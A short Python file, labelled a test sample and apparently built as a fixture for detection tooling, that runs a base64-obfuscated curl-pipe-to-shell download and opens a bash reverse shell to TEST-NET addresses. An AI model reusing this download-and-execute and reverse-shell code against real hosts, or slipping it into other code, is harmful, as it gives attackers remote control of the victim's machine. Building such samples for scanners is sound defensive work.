"""Test sample: runs a decoded payload and opens a reverse shell to a TEST-NET address."""
import base64
import subprocess

exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzE5Mi4wLjIuMjAvcCB8IHNoJyk="))
subprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/192.0.2.30/4444 0>&1"])
